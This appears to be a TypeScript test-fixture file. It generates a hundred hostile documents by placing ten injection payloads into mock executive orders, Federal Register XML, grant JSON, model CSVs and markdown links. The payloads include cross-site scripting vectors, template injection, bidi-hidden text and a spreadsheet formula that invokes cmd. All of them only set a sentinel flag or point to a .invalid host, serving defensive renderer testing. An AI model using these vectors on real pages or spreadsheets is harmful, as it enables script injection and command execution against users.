/** A hundred documents that would be obeyed by a page that took words for markup: ten ways to ask, in ten places of a text. */

/** Whatever runs leaves this on the window, or asks for this host. */
export const SENTINEL = 'recitalRan';
export const HOST = 'sentinel.invalid';

const RUN = `window.${SENTINEL}=1`;

const WAYS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=//${HOST}/x onerror="${RUN}">`,
  `"><svg/onload=${RUN}><set attributeName=href to=javascript:${RUN}>`,
  `javascript:${RUN}//`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} #{${RUN}}`,
  `';${RUN};//</title></textarea></style><script>${RUN}</script>`,
  `\u202e<b onmouseover=${RUN} style=position:fixed;inset:0>\u2066turned\u2069 \u200bhidden`,
  `=HYPERLINK("http://${HOST}/?"&A1,"open") @SUM(1+1)*cmd|' /C calc'!A0`,
  `<iframe srcdoc="<script>parent.${SENTINEL}=1</script>"></iframe><a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `&lt;img src=x onerror=${RUN}&gt; </mark><math><mtext><style><img src=x onerror=${RUN}>`,
];

export interface Hostile {
  readonly name: string;
  readonly text: string;
}

type Place = (way: string, number: number) => Hostile;

const inMarkup = (text: string): string =>
  text.replace(/[&<>"]/g, (sign) => `&#${sign.charCodeAt(0)};`).replace(/[\u200b\u202e\u2066\u2069]/g, '');
const inJson = (value: unknown): string => JSON.stringify(value);
const inCell = (text: string): string => `"${text.replaceAll('"', '""')}"`;

const order = (title: string, clause: string): string => `---
date: '2025-03-03'
title: ${inJson(title)}
source_url: ${inJson(`javascript:${RUN}//${HOST}`)}
---

By the authority vested in me as President by the Constitution and the laws of the United States of America, it is hereby ordered:

**Section 1.** *Definitions.* \\(a\\) the term "covered model" means ${clause};

**Sec. 2.** *Duties.* \\(a\\) Within 90 days of the date of this order, the Secretary of Commerce shall publish ${clause}.
`;

const PLACES: Readonly<Record<string, Place>> = {
  title: (way, n) => ({ name: `title-${n}.md`, text: order(`Order ${n} ${way}`, 'a list of models') }),
  quote: (way, n) => ({ name: `quote-${n}.md`, text: order(`Quoted order ${n}`, `a list ${way} of models`) }),
  'file-name': (way, n) => ({
    name: `${way.replace(/[/\\"]/g, ' ')} ${n}.md`,
    text: order(`Named order ${n}`, 'a list'),
  }),
  report: (way, n) => ({
    name: `report-${n}.txt`,
    text: `Report ${n} ${way}\n(cite index="1-1">OpenAI supported the executive order ${way} on frontier models, according to two people.</cite> (cite index="1-2">Meta's Ada ${way} Vale pushed back against the draft order.</cite>\nTrump said, "${way}"\n`,
  }),
  html: (way, n) => ({
    name: `page-${n}.html`,
    text: `<!doctype html><html><head><title>Page ${n} ${inMarkup(way)}</title></head><body><h1>${inMarkup(way)}</h1><p>The State and Local Cybersecurity Grant Program ${inMarkup(way)} follows 2 CFR part 200.</p>${way}</body></html>`,
  }),
  xml: (way, n) => ({
    name: `register-${n}.xml`,
    text: `<?xml version="1.0"?><PRESDOCU><EXECORD><PRNTOP><EXECORDR>Executive Order ${98_000 + n} of June 1, 2024</EXECORDR></PRNTOP><HD SOURCE="HED">${inMarkup(way)}</HD><FP>By the authority vested in me as President by the Constitution and the laws of the United States of America, it is hereby ordered as follows:</FP><FP><E T="04">Section 1</E>. <E T="03">${inMarkup(way)}.</E> (a) The Secretary of Energy shall make ${inMarkup(way)} available.</FP><DATE>June 1, 2024.</DATE><FRDOC>[FR Doc. 2024-${98_000 + n} Filed 6-4-24; 8:45 am]</FRDOC></EXECORD></PRESDOCU>`,
  }),
  program: (way, n) => ({
    name: `program-98.${String(n).padStart(3, '0')}.json`,
    text: inJson({
      id: `98.${String(n).padStart(3, '0')}`,
      name: `${way} Grants`,
      popular_name: way,
      objective: `Grants ${way} for cybersecurity.`,
      top_agency_name: 'Department of Energy',
      applicant_types: [way],
      authorizations: [{ text: way, url: `javascript:${RUN}` }],
      program_type: 'assistance_listing',
    }),
  }),
  models: (way, n) => ({
    name: `models-${n}.csv`,
    text: `Model,Organization,Publication date,Training compute (FLOP),Parameters,Model accessibility,Link\n${inCell(`${way} ${n}`)},${inCell(`Maker ${way}`)},2024-05-01,1e26,1e12,${inCell(way)},javascript:${RUN}\n`,
  }),
  text: (way, n) => ({ name: `text-${n}.txt`, text: `Notice ${n}\n\n${way}\n\nSee 44 U.S.C. 3502 ${way}.\n` }),
  links: (way, n) => ({
    name: `links-${n}.md`,
    text: `# Links ${n}\n\n[${way}](javascript:${RUN}) <${way}> ![${way}](//${HOST}/x) The Director of CISA shall publish ${way} by May 1, 2027.\n`,
  }),
};

export const HOSTILE: readonly Hostile[] = Object.values(PLACES).flatMap((place, index) =>
  WAYS.map((way, n) => place(way, index * WAYS.length + n)),
);
